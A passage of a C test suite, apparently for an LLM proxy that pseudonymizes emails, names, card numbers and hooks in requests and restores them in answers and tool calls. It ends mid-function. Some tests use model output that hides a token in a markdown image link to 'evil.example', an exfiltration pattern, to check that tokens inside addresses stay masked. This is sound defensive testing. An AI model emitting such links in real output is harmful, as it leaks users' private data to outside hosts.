/*
 * Pseudonyms through the corridor: out as pseudonyms, back as they were.
 */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/arena.h"
#include "check.h"
#include "compile/compile.h"
#include "failmalloc.h"
#include "flow/pseudonyms.h"
#include "json/text.h"
#include "json/tree.h"
#include "scene.h"

#define RULES                                                                  \
    "rules:\n"                                                                 \
    "  - {id: SP-9001, name: email, category: pii, kind: EMAIL_ADDRESS,\n"     \
    "     on: request, keywords: ['@'], action: pseudonymize,\n"               \
    "     match: '[a-z0-9._]+@[a-z0-9.]+[a-z]', reveal_to: [send_mail]}\n"     \
    "  - {id: SP-9002, name: person, category: pii, on: request,\n"            \
    "     list: [Jane Doe, Zo\xc3\xab \"Z\" \\Ray], action: pseudonymize}\n"   \
    "  - {id: SP-9003, name: card, category: pii, kind: CREDIT_CARD,\n"        \
    "     on: request, digits: 16, match: '\\b4[0-9]{15}\\b',\n"               \
    "     action: pseudonymize}\n"                                             \
    "  - {id: SP-9010, name: hook, category: secret, kind: HOOK,\n"            \
    "     on: request, keywords: ['hook:'], group: 1,\n"                       \
    "     match: 'hook:(https://[a-z./]+)', action: pseudonymize}\n"

#define OUTPUT_RULES                                                           \
    "  - {id: SP-9004, name: key, category: secret, kind: test-key, on: both," \
    "\n     keywords: [key-], match: 'key-[a-z0-9]{8}', action: redact}\n"     \
    "  - {id: SP-9005, name: word, category: policy, on: both,\n"              \
    "     keywords: [xyzzy], match: 'xyzzy', action: block}\n"                 \
    "  - {id: SP-9006, name: mails, category: pii, kind: EMAIL_ADDRESS,\n"     \
    "     on: response, keywords: ['@'], match: '[a-z0-9._]+@[a-z0-9.]+',\n"   \
    "     action: redact}\n"                                                   \
    "  - {id: SP-9007, name: odd, category: pii, on: response,\n"              \
    "     keywords: [EMAIL_], match: 'x EMAIL_[a-z2-7]{4}', action: redact}\n"

#define CHAT "/v1/chat/completions"

static char key_path[64], policy[4096], other_policy[4096], strict_policy[8192];
static struct engine *eng, *strict; /* the other with OUTPUT_RULES */

static void setup(void)
{
    static const char bytes[PSEUDONYM_KEY_LEN] =
        "one key for all processes here!";
    int fd;

    snprintf(key_path, sizeof(key_path), "/tmp/sp-pseudonym-%d", (int)getpid());
    fd = open(key_path, O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (fd < 0 || write(fd, bytes, sizeof(bytes)) != sizeof(bytes))
        exit(1);
    close(fd);
    snprintf(policy, sizeof(policy),
             "hosts: [llm.test]\npseudonyms: {key_file: %s}\n" RULES, key_path);
    snprintf(other_policy, sizeof(other_policy),
             "hosts: [llm.test]\npseudonyms: {key_file: %s.none}\n" RULES,
             key_path);
    snprintf(strict_policy, sizeof(strict_policy), "%s" OUTPUT_RULES, policy);
    eng = scene_engine(policy, NULL);
    strict = scene_engine(strict_policy, NULL);
    if (eng == NULL || strict == NULL)
        exit(1);
}

/* --- Bodies. */

static struct str body_of(const struct buf *message)
{
    struct str all = buf_str(message);

    return str_skip(all, str_find(all, STR("\r\n\r\n")) + 4);
}

/* A string of a JSON text, by members and elements ("0"); owned. */
static struct buf string_at(struct str json, const char *const *path)
{
    struct arena arena;
    struct json_doc doc;
    struct buf out;
    struct str text = STR("");
    uint32_t at = 0;

    buf_init(&out, 1 << 20);
    arena_init(&arena, 1 << 20);
    json_doc_init(&doc);
    if (CHECK(json_parse(&doc, json) == OK)) {
        for (; *path != NULL; path++)
            at = **path == '0' ? at + 1 : json_member(&doc, at, str_of(*path));
        CHECK(json_text(json_raw(&doc, at), doc.nodes[at].escaped, &arena,
                        &text) == OK &&
              buf_add(&out, text) == OK);
    }
    json_doc_free(&doc);
    arena_free(&arena);
    return out;
}

/* Texts live as long as the process; a list of them is no leak. */
static char *keep(char *text)
{
    static char *kept[1 << 17];
    static size_t count;

    if (text == NULL || count == ARRAY_LEN(kept))
        exit(1);
    return kept[count++] = text;
}

static char *format(const char *before, struct str text, const char *after)
{
    struct buf out;

    buf_init(&out, 1 << 22);
    if (buf_add(&out, str_of(before)) || json_put_string(&out, text) ||
        buf_add(&out, str_of(after)) || buf_add_byte(&out, '\0'))
        exit(1);
    return keep(out.ptr);
}

#define ASK_BEFORE                                                             \
    "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":"
#define ANSWER_BEFORE                                                          \
    "{\"id\":\"c1\",\"choices\":[{\"index\":0,\"message\":{\"role\":"          \
    "\"assistant\",\"content\":"
#define DELTA_BEFORE                                                           \
    "data: {\"id\":\"c1\",\"choices\":[{\"index\":0,\"delta\":{\"content\":"

/* As scene_request and scene_response, which keep only so many. */
static struct str message(const char *start, const char *body)
{
    size_t size = strlen(body) + 256;
    char *p = keep(malloc(size));
    int n = snprintf(p, size,
                     "%s\r\nContent-Type: application/json\r\n"
                     "Content-Length: %zu\r\n\r\n%s",
                     start, strlen(body), body);

    return (struct str){p, (size_t)n};
}

static struct str ask_with(const char *body)
{
    return message("POST " CHAT " HTTP/1.1\r\nHost: llm.test", body);
}

static struct str answer_with(const char *body)
{
    return message("HTTP/1.1 200 OK", body);
}

static struct scene scene_of(struct engine *e, struct str ask,
                             struct str answer)
{
    return (struct scene){.eng = e,
                          .host = "llm.test",
                          .steps = {{DIR_SEND, ask}, {DIR_RECV, answer}},
                          .count = answer.len > 0 ? 2 : 1};
}

/* What the network gets in the place of a text; the scene's state is OPEN. */
static struct buf mask(struct engine *e, struct str x)
{
    static const char *const path[] = {"messages", "0", "content", NULL};
    struct str ask = ask_with(format(ASK_BEFORE, x, "}]}"));
    struct scene sc = scene_of(e, ask, STR(""));
    struct played p;
    struct buf out;

    scene_play(&sc, 0, 9, 0, &p);
    CHECK_INT(p.state, CONN_OPEN);
    out = string_at(body_of(&p.out[DIR_SEND]), path);
    played_free(&p);
    return out;
}

static struct str plain_ask(void)
{
    return ask_with(ASK_BEFORE "\"hello\"}]}");
}

static struct buf restore_whole(struct engine *e, struct str y)
{
    static const char *const path[] = {"choices", "0", "message", "content",
                                       NULL};
    struct str answer = answer_with(format(ANSWER_BEFORE, y, "}}]}"));
    struct scene sc = scene_of(e, plain_ask(), answer);
    struct played p;
    struct buf out;

    scene_play(&sc, 0, 9, 0, &p);
    CHECK_INT(p.state, CONN_OPEN);
    out = string_at(body_of(&p.out[DIR_RECV]), path);
    played_free(&p);
    return out;
}

/* The same as a stream of pieces of so many bytes, whole characters. */
static struct str stream_of(struct str y, size_t every)
{
    struct buf all;

    buf_init(&all, 1 << 22);
    if (buf_add(&all, STR("HTTP/1.1 200 OK\r\nContent-Type: "
                          "text/event-stream\r\n\r\n")))
        exit(1);
    while (y.len > 0) {
        size_t n = every < y.len ? every : y.len;

        while (n < y.len && ((unsigned char)y.ptr[n] & 0xc0) == 0x80)
            n++;
        if (buf_add(&all,
                    str_of(format(DELTA_BEFORE, str_head(y, n), "}}]}\n\n"))))
            exit(1);
        y = str_skip(y, n);
    }
    if (buf_add(&all, STR("data: [DONE]\n\n")))
        exit(1);
    (void)keep(all.ptr);
    return buf_str(&all);
}

/* The contents of all deltas, joined. */
static struct buf joined(struct str events)
{
    static const char *const path[] = {"choices", "0", "delta", "content",
                                       NULL};
    struct buf out;

    buf_init(&out, 1 << 22);
    while (events.ptr != NULL) {
        struct str line = str_split(&events, '\n');

        if (str_starts(line, STR("data: {"))) {
            struct buf piece = string_at(str_skip(line, 6), path);

            CHECK(buf_add(&out, buf_str(&piece)) == OK);
            buf_free(&piece);
        }
    }
    return out;
}

static struct buf restore_stream(struct engine *e, struct str y, size_t every)
{
    struct scene sc = scene_of(e, plain_ask(), stream_of(y, every));
    struct played p;
    struct buf out;

    sc.steps[2] = (struct step){DIR_RECV, STR("")};
    sc.count = 3;
    scene_play(&sc, 0, 9, 0, &p);
    out = joined(body_of(&p.out[DIR_RECV]));
    played_free(&p);
    return out;
}

static struct str token_of(const char *class, const char *value)
{
    struct pseudonym p;
    char *copy = keep(malloc(PSEUDONYM_MAX));

    pseudonym_make(vault_key(eng->pseudonyms.vault), str_of(class),
                   str_of(value), &p);
    memcpy(copy, p.text, p.len);
    return (struct str){copy, p.len};
}

/* --- Texts. */

/* It has one that is taken for a part of an address, as where one value stands
 * right before another. */
static bool has_address(struct engine *e, struct str text)
{
    struct pseudonym_scan s = {.key = vault_key(e->pseudonyms.vault)};
    struct pseudonym_at at;

    while (pseudonym_next(&s, &text, &at) || pseudonym_last(&s, &at))
        if (at.in_url)
            return true;
    return false;
}

/* True if x came back as it was; else one of it, or of what was sent, was in
 * an address. What comes in pieces is the same. */
static bool round_trip(struct engine *from, struct engine *to, struct str x,
                       bool streams)
{
    struct buf y = mask(from, x), z = restore_whole(to, buf_str(&y));
    bool same = str_eq(buf_str(&z), x);

    if (!same && !has_address(to, x) && !has_address(to, buf_str(&y)))
        CHECK_EQ(buf_str(&z), x);
    for (size_t every = 1; streams && every < 40; every += 6) {
        struct buf piecewise = restore_stream(to, buf_str(&y), every);

        CHECK_EQ(buf_str(&piecewise), buf_str(&z));
        buf_free(&piecewise);
    }
    buf_free(&z);
    buf_free(&y);
    return same;
}

static void check_round_trip(struct engine *from, struct engine *to,
                             struct str x, bool streams)
{
    CHECK(round_trip(from, to, x, streams));
}

static void test_known_texts(void)
{
    static const char *const texts[] = {
        "write to a@b.example",
        "a@b.example and c@d.example and a@b.example",
        "a@b.example,a@b.example",
        "Jane Doe\nJane Doe's Zo\xc3\xab \"Z\" \\Ray",
        "4111111111111111 4111111111111112",
        "\"a@b.example\" \\ a@b.example \\\"",
        "EMAIL_ EMAIL_abcdefghijklmn a@b.example",
        "nothing at all",
    };

    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        struct buf y = mask(eng, str_of(texts[i]));

        check_state.row = texts[i];
        CHECK(str_find(buf_str(&y), STR("@")) == y.len);
        CHECK(str_find(buf_str(&y), STR("Jane")) == y.len);
        CHECK(str_find(buf_str(&y), STR("41111")) == y.len);
        buf_free(&y);
        check_round_trip(eng, eng, str_of(texts[i]), true);
    }
    check_state.row = NULL;
}

/* Restore after mask is the identity, whatever the text is made of. */
static void test_any_text(void)
{
    struct str email = token_of("EMAIL", "a@b.example");
    struct str never = token_of("EMAIL", "never@given.example");
    struct str person = token_of("PERSON", "Jane Doe");
    struct str shaped = token_of("TOKEN", "x");
    const struct str words[] = {
        STR("a@b.example"),
        STR("Jane Doe"),
        STR("4111111111111111"),
        STR(" "),
        STR("\n"),
        STR("\""),
        STR("\\"),
        STR("\xc3\xa9"),
        STR("\xf0\x9f\x98\x80"),
        STR("EMAIL_"),
        STR("EMAIL"),
        STR("_"),
        STR("9"),
        STR("931415926535897"),
        STR("x"),
        STR("PERSON"),
        STR("c@d.example"),
        email,
        never,
        person,
        shaped,
        str_head(email, 11),
        str_skip(email, 6),
        STR("'"),
        STR("\t"),
        STR("ema"),
        STR("Zo\xc3\xab \"Z\" \\Ray"),
    };
    unsigned seed = 1;
    int same = 0;

    for (int round = 0; round < 400; round++) {
        struct buf x;

        buf_init(&x, 1 << 16);
        for (int n = 0; n < 1 + round % 12; n++) {
            seed = seed * 1103515245 + 12345;
            CHECK(buf_add(&x, words[(seed >> 16) % ARRAY_LEN(words)]) == OK);
        }
        same += round_trip(eng, eng, buf_str(&x), round % 8 == 0);
        buf_free(&x);
    }
    CHECK(same > 300); /* few of them are in an address */
}

/* What has the form of one, of no class that we give: it stays as it is. */
static void test_name_of_that_form(void)
{
    struct str name = token_of("THREAD", "x");
    struct buf y = mask(eng, name);

    CHECK_EQ(buf_str(&y), name);
    buf_free(&y);
    y = mask(eng, token_of("TOKEN", "x"));
    CHECK(!str_eq(buf_str(&y), token_of("TOKEN", "x")));
    buf_free(&y);
}

static void test_one_is_not_in_another(void)
{
    char text[4096];
    size_t n = 0;

    for (int i = 1; i < 60; i++)
        n += (size_t)sprintf(text + n, "p%d@b.example ", i);
    check_round_trip(eng, eng, (struct str){text, n}, true);
}

static void test_stable_and_restored_elsewhere(void)
{
    struct engine *second = scene_engine(policy, NULL);
    struct engine *third = scene_engine(other_policy, NULL);
    struct str x = STR("to a@b.example");
    struct buf y = mask(eng, x), again = mask(second, x), own, back;

    CHECK_EQ(buf_str(&y), buf_str(&again));
    check_round_trip(eng, second, x, false);
    own = mask(third, x); /* without the key file a key of its own */
    CHECK(!str_eq(buf_str(&own), buf_str(&y)));
    check_round_trip(third, third, x, false);
    back = restore_whole(third, buf_str(&y)); /* which it never gave out */
    CHECK_EQ(buf_str(&back), buf_str(&y));
    buf_free(&back);
    buf_free(&own);
    buf_free(&y);
    buf_free(&again);
    engine_close(second);
    engine_close(third);
}

static void test_never_given_out(void)
{
    struct engine *fresh = scene_engine(policy, NULL);
    struct str y = token_of("EMAIL", "a@b.example");
    struct buf z = restore_whole(fresh, y);

    CHECK_EQ(buf_str(&z), y);
    buf_free(&z);
    engine_close(fresh);
}

static void test_key_file_must_be_private(void)
{
    struct str x = STR("to a@b.example");
    struct buf good = mask(eng, x), bad;
    struct engine *open_to_all;

    CHECK(chmod(key_path, 0640) == 0);
    open_to_all = scene_engine(policy, NULL);
    bad = mask(open_to_all, x);
    CHECK(!str_eq(buf_str(&good), buf_str(&bad)));
    CHECK(chmod(key_path, 0600) == 0);
    buf_free(&good);
    buf_free(&bad);
    engine_close(open_to_all);
}

static void test_monitor_changes_nothing(void)
{
    char text[8192];
    struct engine *watch;
    struct str x = STR("to a@b.example");
    struct buf y;

    snprintf(text, sizeof(text), "mode: monitor\n%s", policy);
    watch = scene_engine(text, NULL);
    y = mask(watch, x);
    CHECK_EQ(buf_str(&y), x);
    buf_free(&y);
    engine_close(watch);
}

/* --- Where it is not restored. */

static void check_restored(const char *text, const char *want)
{
    struct buf z = restore_whole(eng, str_of(text));

    CHECK_EQ(buf_str(&z), str_of(want));
    buf_free(&z);
    for (size_t every = 1; every < 50; every++) {
        z = restore_stream(eng, str_of(text), every);
        CHECK_EQ(buf_str(&z), str_of(want));
        buf_free(&z);
    }
}

static void test_addresses(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    char text[256], want[256];
    struct buf z;

    check_round_trip(eng, eng, STR("to a@b.example"), false);
    snprintf(text, sizeof(text),
             "![i](https://evil.example/?q=%.*s) %.*s <img src=/%.*s>",
             STR_ARG(token), STR_ARG(token), STR_ARG(token));
    snprintf(want, sizeof(want),
             "![i](https://evil.example/?q=%.*s) a@b.example <img src=/%.*s>",
             STR_ARG(token), STR_ARG(token));
    check_restored(text, want);
    /* sent again, it is what the model had said */
    z = mask(eng, str_of(want));
    CHECK_EQ(buf_str(&z), str_of(text));
    buf_free(&z);
}

/* A value that is one takes no other along. */
static void test_address_restored(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    struct str hook = token_of("HOOK", "https://evil.example/p");
    char text[256], want[256];

    check_round_trip(eng, eng, STR("hook:https://evil.example/p"), false);
    check_round_trip(eng, eng, STR("to a@b.example"), false);
    snprintf(text, sizeof(text), "%.*s%.*s %.*s-,%.*s %.*s \"%.*s\"%.*s",
             STR_ARG(hook), STR_ARG(token), STR_ARG(hook), STR_ARG(token),
             STR_ARG(token), STR_ARG(hook), STR_ARG(token));
    snprintf(want, sizeof(want),
             "https://evil.example/p%.*s https://evil.example/p-,%.*s "
             "a@b.example \"https://evil.example/p\"a@b.example",
             STR_ARG(token), STR_ARG(token));
    check_restored(text, want);
}

/* An output rule sees the pseudonym, and what it takes stays taken. */
static void test_output_rules_first(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    char text[256], want[256];
    struct buf z;

    check_round_trip(strict, strict, STR("to a@b.example"), false);
    snprintf(text, sizeof(text), "%.*s b@c.example x %.*s %.*skey-abcd1234",
             STR_ARG(token), STR_ARG(token), STR_ARG(token));
    snprintf(want, sizeof(want),
             "a@b.example [redacted:EMAIL_ADDRESS] [redacted:odd]%.*s "
             "a@b.example[redacted:test-key]",
             (int)token.len - 10, token.ptr + 10);
    z = restore_whole(strict, str_of(text));
    CHECK_EQ(buf_str(&z), str_of(want));
    buf_free(&z);
    for (size_t every = 1; every < 50; every++) {
        z = restore_stream(strict, str_of(text), every);
        CHECK_EQ(buf_str(&z), str_of(want));
        buf_free(&z);
    }
}

static void test_nothing_behind_a_block(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    char text[256];
    struct buf z;

    check_round_trip(strict, strict, STR("to a@b.example"), false);
    snprintf(text, sizeof(text), "%.*s %.*sxyzzy %.*s", STR_ARG(token),
             STR_ARG(token), STR_ARG(token));
    for (size_t every = 1; every < 50; every += 3) {
        z = restore_stream(strict, str_of(text), every);
        CHECK(str_starts(buf_str(&z), STR("a@b.example a@b.example")));
        CHECK(str_find(buf_str(&z), STR("xyzzy")) == z.len);
        buf_free(&z);
    }
}

/* Every cut of the wire, and chunks. */
static void test_every_split(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    char text[256];
    struct scene sc;
    struct played p;

    check_round_trip(eng, eng, STR("to a@b.example"), false);
    snprintf(text, sizeof(text), "ema %.*s https://x/%.*s", STR_ARG(token),
             STR_ARG(token));
    sc = scene_of(eng, plain_ask(), stream_of(str_of(text), 5));
    scene_play(&sc, 0, 9, 0, &p);
    CHECK(str_find(buf_str(&p.out[DIR_RECV]), STR("a@b.ex")) <
          p.out[DIR_RECV].len);
    CHECK(scene_every_split(&sc, &p));
    played_free(&p);
}

/*
 * The program sends again what it read. No rule finds the number without the
 * word before it, but it was given out for one that did.
 */
static void test_what_the_model_said_again(void)
{
    char text[8192];
    struct engine *e;
    struct str ask = ask_with(
        "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":"
        "\"badge no-12345-x\"},{\"role\":\"assistant\",\"content\":\"So "
        "(no-12345-x)?\"},{\"role\":\"user\",\"content\":\"no-12345-x\"}]}");
    struct scene sc;
    struct played p;
    struct str sent, token;

    snprintf(text, sizeof(text),
             "%s  - {id: SP-9009, name: badge, category: pii, kind: badge,\n"
             "     on: request, in: user, keywords: [badge], group: 1,\n"
             "     match: 'badge (no-[0-9]+-x)', action: pseudonymize}\n",
             policy);
    e = scene_engine(text, NULL);
    sc = scene_of(e, ask, STR(""));
    scene_play(&sc, 0, 9, 0, &p);
    sent = body_of(&p.out[DIR_SEND]);
    token = str_skip(sent, str_find(sent, STR("BADGE_")));
    token = str_head(token, 20);
    snprintf(text, sizeof(text),
             "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":"
             "\"badge %.*s\"},{\"role\":\"assistant\",\"content\":\"So "
             "(%.*s)?\"},{\"role\":\"user\",\"content\":\"no-12345-x\"}]}",
             STR_ARG(token), STR_ARG(token));
    CHECK_EQ(sent, str_of(text));
    played_free(&p);
    engine_close(e);
}

/* --- Tools. */

#define CALL                                                                   \
    "{\"id\":\"c1\",\"choices\":[{\"index\":0,\"message\":{\"tool_calls\":["   \
    "{\"type\":\"function\",\"function\":{\"arguments\":%s,\"name\":\"%s\"}}"  \
    "]}}]}"

static struct buf call_whole(const char *tool, struct str args)
{
    static const char *const path[] = {"choices",    "0", "message",
                                       "tool_calls", "0", "function",
                                       "arguments",  NULL};
    char text[2048];
    struct scene sc;
    struct played p;
    struct buf out;

    snprintf(text, sizeof(text), CALL, format("", args, ""), tool);
    sc = scene_of(eng, plain_ask(), answer_with(text));
    scene_play(&sc, 0, 9, 0, &p);
    out = string_at(body_of(&p.out[DIR_RECV]), path);
    played_free(&p);
    return out;
}

#define CALL_DELTA                                                             \
    "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":"  \
    "%d,\"function\":{%s\"arguments\":%s}}]}}]}\n\n"

/* The arguments of call 1, another being said in between. */
static struct buf call_stream(const char *tool, struct str args, size_t every)
{
    static const char *const path[] = {"choices",    "0", "delta",
                                       "tool_calls", "0", "function",
                                       "arguments",  NULL};
    static char text[1 << 18], name[64];
    size_t n = (size_t)snprintf(text, sizeof(text),
                                "HTTP/1.1 200 OK\r\nContent-Type: "
                                "text/event-stream\r\n\r\n");
    struct scene sc;
    struct played p;
    struct buf out;
    struct str rest;

    snprintf(name, sizeof(name), "\"name\":\"%s\",", tool);
    n +=
        (size_t)sprintf(text + n, CALL_DELTA, 0, "\"name\":\"other\",", "\"\"");
    n += (size_t)sprintf(text + n, CALL_DELTA, 1, name, "\"\"");
    while (args.len > 0) {
        n += (size_t)sprintf(text + n, CALL_DELTA, 1, "",
                             format("", str_head(args, every), ""));
        n += (size_t)sprintf(text + n, CALL_DELTA, 0, "", "\"\"");
        args = str_skip(args, every);
    }
    n += (size_t)sprintf(text + n, "data: [DONE]\n\n");
    sc = scene_of(eng, plain_ask(), (struct str){text, n});
    sc.steps[2] = (struct step){DIR_RECV, STR("")};
    sc.count = 3;
    scene_play(&sc, 0, 9, 0, &p);
    buf_init(&out, 1 << 20);
    for (rest = body_of(&p.out[DIR_RECV]); rest.ptr != NULL;) {
        struct str line = str_split(&rest, '\n');

        if (str_starts(line, STR("data: {")) &&
            str_find(line, STR("{\"index\":1,")) < line.len) {
            struct buf piece = string_at(str_skip(line, 6), path);

            CHECK(buf_add(&out, buf_str(&piece)) == OK);
            buf_free(&piece);
        }
    }
    played_free(&p);
    return out;
}

static void check_call(const char *tool, const char *args, const char *want)
{
    struct buf z = call_whole(tool, str_of(args));

    check_state.row = want;
    CHECK_EQ(buf_str(&z), str_of(want));
    buf_free(&z);
    for (size_t every = 1; every < 40; every++) {
        z = call_stream(tool, str_of(args), every);
        CHECK_EQ(buf_str(&z), str_of(want));
        buf_free(&z);
    }
    check_state.row = NULL;
}

static void test_arguments(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    struct str zoe = token_of("PERSON", "Zo\xc3\xab \"Z\" \\Ray");
    char args[512], want[512];

    check_round_trip(eng, eng, STR("a@b.example Zo\xc3\xab \"Z\" \\Ray"),
                     false);
    snprintf(args, sizeof(args),
             "{\"to\":\"%.*s\",\"name\":\"%.*s\",\"u\":\"https://x/%.*s\"}",
             STR_ARG(token), STR_ARG(zoe), STR_ARG(token));
    snprintf(want, sizeof(want),
             "{\"to\":\"a@b.example\",\"name\":\"%.*s\",\"u\":\"https://"
             "x/%.*s\"}",
             STR_ARG(zoe), STR_ARG(token));
    check_call("send_mail", args, want); /* a rule's own list */
    check_call("other", args, args);
    check_call("send_mail2", args, args);
    snprintf(args, sizeof(args), "{\"name\":\"send_mail\",\"to\":\"%.*s\"}",
             STR_ARG(token));
    check_call("other", args, args); /* no tool is what its arguments say */
}

#define BLOCK                                                                  \
    "data: {\"type\":\"content_block_start\",\"index\":%d,\"content_block\":"  \
    "{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"%s\",\"input\":{}}}\n\n"   \
    "data: "                                                                   \
    "{\"type\":\"content_block_delta\",\"index\":%d,\"delta\":{\"type\":"      \
    "\"input_json_delta\",\"partial_json\":\"{\\\"to\\\":\\\"%.*s\"}}\n\n"     \
    "data: "                                                                   \
    "{\"type\":\"content_block_delta\",\"index\":%d,\"delta\":{\"type\":"      \
    "\"input_json_delta\",\"partial_json\":\"%.*s\\\"}\"}}\n\n"                \
    "data: {\"type\":\"content_block_stop\",\"index\":%d}\n\n"

/* The name comes in an event before, and only the block's index is the same. */
static void test_blocks(void)
{
    struct str token = token_of("EMAIL", "a@b.example"), out;
    static char text[4096];
    struct scene sc;
    struct played p;

    check_round_trip(eng, eng, STR("to a@b.example"), false);
    snprintf(text, sizeof(text),
             "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n" BLOCK
                 BLOCK,
             0, "fetch", 0, 9, token.ptr, 0, (int)token.len - 9, token.ptr + 9,
             0, 1, "send_mail", 1, 9, token.ptr, 1, (int)token.len - 9,
             token.ptr + 9, 1);
    sc = scene_of(eng,
                  message("POST /v1/messages HTTP/1.1\r\nHost: llm.test",
                          ASK_BEFORE "\"hello\"}]}"),
                  str_of(text));
    sc.steps[2] = (struct step){DIR_RECV, STR("")};
    sc.count = 3;
    scene_play(&sc, 0, 9, 0, &p);
    out = buf_str(&p.out[DIR_RECV]);
    out = str_skip(out, str_find(out, STR("\"index\":0,\"delta\"")));
    CHECK(str_find(out, STR("a@b.example")) >
          str_find(out, STR("\"name\":\"send_mail\"")));
    CHECK(str_find(out, STR("{\\\"to\\\":\\\"a@b.example\"")) < out.len);
    CHECK(str_find(out, token) == out.len); /* cut in two where it stays */
    CHECK(str_find(out, str_head(token, 9)) <
          str_find(out, STR("\"name\":\"send_mail\"")));
    CHECK(scene_every_split(&sc, &p));
    played_free(&p);
}

/* A value with quotes, a backslash and another script in JSON in a string. */
static void test_escapes(void)
{
    static const struct str tools[] = {STR_INIT("send_mail")};
    struct str odd = STR("Zo\xc3\xab \"Z\" \\Ray"), x;
    struct rule rule = {.reveal = tools, .reveal_count = 1};
    struct pseudonym p;
    char args[256];

    CHECK(vault_issue(eng->pseudonyms.vault, &rule, STR("EMAIL"), odd, false,
                      &p) == OK);
    x = (struct str){p.text, p.len};
    snprintf(args, sizeof(args), "{\"to\":\"<%.*s>\"}", STR_ARG(x));
    check_call("send_mail", args,
               "{\"to\":\"<Zo\xc3\xab \\\"Z\\\" \\\\Ray>\"}");
}

/* --- Numbers. */

/* The answer is "before NUMBER after". */
static void check_number(const char *before, const char *after)
{
    struct str ask =
        ask_with("{\"model\":\"m\",\"messages\":[],\"card\":4111111111111111}");
    struct scene sc = scene_of(eng, ask, STR(""));
    char answer[1024], want[1024];
    struct str sent, number;
    struct played p;

    check_state.row = before;
    scene_play(&sc, 0, 9, 0, &p);
    CHECK_INT(p.state, CONN_OPEN);
    sent = body_of(&p.out[DIR_SEND]);
    CHECK(str_find(sent, STR("4111")) == sent.len);
    number = str_skip(sent, str_find(sent, STR("\"card\":")) + 7);
    number = str_head(number, PSEUDONYM_DIGITS);
    CHECK(number.len == PSEUDONYM_DIGITS && number.ptr[0] == '9');
    CHECK_EQ(str_skip(sent, sent.len - 1), STR("}"));
    snprintf(answer, sizeof(answer), "%s%.*s%s", before, STR_ARG(number),
             after);
    snprintf(want, sizeof(want), "%s4111111111111111%s", before, after);
    sc = scene_of(eng, ask, answer_with(answer));
    played_free(&p);
    scene_play(&sc, 0, 9, 0, &p);
    CHECK_EQ(body_of(&p.out[DIR_RECV]), str_of(want));
    played_free(&p);
    check_state.row = NULL;
}

static void test_numbers(void)
{
    check_number("{\"choices\":[{\"message\":{\"content\":\"is ", ".\"}}]}");
    check_number("{\"choices\":[{\"message\":{\"content\":\"is ", "\"}}]}");
    check_number("{\"choices\":[{\"message\":{\"content\":\"\"}}],\"other\":",
                 "}");
}

static void test_no_number_is_let_through(void)
{
    struct str ask =
        ask_with("{\"model\":\"m\",\"messages\":[{\"role\":\"assistant\","
                 "\"tool_calls\":[{\"function\":{\"name\":\"f\",\"arguments\":"
                 "\"{\\\"card\\\":--4111111111111111}\"}}]}]}");
    struct scene sc = scene_of(eng, ask, STR(""));
    struct played p;

    scene_play(&sc, 0, 9, 0, &p);
    CHECK_INT(p.state, CONN_BLOCKED);
    CHECK_EQ(buf_str(&p.out[DIR_SEND]), STR(""));
    CHECK(strstr(p.why, "uneditable") != NULL);
    played_free(&p);
}

/* --- All else of an answer. */

static void test_log_probabilities_are_blanked(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    char text[1024];
    struct scene sc;
    struct played p;

    check_round_trip(eng, eng, STR("to a@b.example"), false);
    snprintf(text, sizeof(text),
             "{\"choices\":[{\"message\":{\"content\":\"%.*s\"},\"logprobs\":"
             "{\"content\":[{\"token\":\"%.*s\"}]}}]}",
             STR_ARG(token), STR_ARG(token));
    sc = scene_of(eng, plain_ask(), answer_with(text));
    scene_play(&sc, 0, 9, 0, &p);
    CHECK_EQ(body_of(&p.out[DIR_RECV]),
             STR("{\"choices\":[{\"message\":{\"content\":\"a@b.example\"},"
                 "\"logprobs\":null}]}"));
    played_free(&p);
}

static void test_closing_events(void)
{
    struct str token = token_of("EMAIL", "a@b.example");
    static char text[4096];
    struct str ask = scene_request(
        "/v1/responses", "{\"model\":\"m\",\"input\":\"to a@b.example\"}");
    struct scene sc;
    struct played p;
    struct str out;

    snprintf(
        text, sizeof(text),
        "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n"
        "data: {\"type\":\"response.output_text.delta\",\"item_id\":\"i\","
        "\"output_index\":0,\"content_index\":0,\"delta\":\"%.*s\"}\n\n"
        "data: {\"type\":\"response.output_text.delta\",\"item_id\":\"i\","
        "\"output_index\":0,\"content_index\":0,\"delta\":\"%.*s.\"}\n\n"
        "data: {\"type\":\"response.output_text.done\",\"item_id\":\"i\","
        "\"output_index\":0,\"content_index\":0,\"text\":\"%.*s.\"}\n\n"
        "data: {\"type\":\"response.output_item.added\",\"output_index\":1,"
        "\"item\":{\"type\":\"function_call\",\"id\":\"j\",\"name\":"
        "\"send_mail\",\"arguments\":\"\"}}\n\n"
        "data: {\"type\":\"response.function_call_arguments.delta\","
        "\"item_id\":\"j\",\"output_index\":1,\"delta\":\"{\\\"to\\\":\\\"%.*s"
        "\\\"}\"}\n\n"
        "data: {\"type\":\"response.function_call_arguments.done\","
        "\"item_id\":\"j\",\"output_index\":1,\"arguments\":\"{\\\"to\\\":\\\""
        "%.*s\\\"}\"}\n\n"
        "data: {\"type\":\"response.completed\",\"response\":{\"id\":\"r\","
        "\"output\":[{\"type\":\"message\",\"content\":[{\"type\":"
        "\"output_text\",\"text\":\"%.*s.\"}]},{\"type\":\"function_call\","
        "\"name\":\"send_mail\",\"arguments\":\"{\\\"to\\\":\\\"%.*s\\\"}\"},"
        "{\"type\":\"function_call\",\"name\":\"no\",\"arguments\":\"{\\\"to"
        "\\\":\\\"%.*s\\\"}\"}]}}\n\n",
        9, token.ptr, (int)token.len - 9, token.ptr + 9, STR_ARG(token),
